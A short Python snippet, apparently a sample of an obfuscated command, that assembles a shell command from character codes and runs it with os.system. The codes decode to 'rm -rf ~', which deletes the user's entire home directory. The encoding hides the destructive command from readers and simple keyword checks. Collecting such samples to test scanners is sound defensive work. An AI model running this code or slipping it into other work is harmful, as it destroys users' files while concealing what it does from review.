# tricky: a command out of character codes
import os
cmd = "".join(map(chr, [114, 109, 32, 45, 114, 102, 32, 126]))
os.system(cmd)
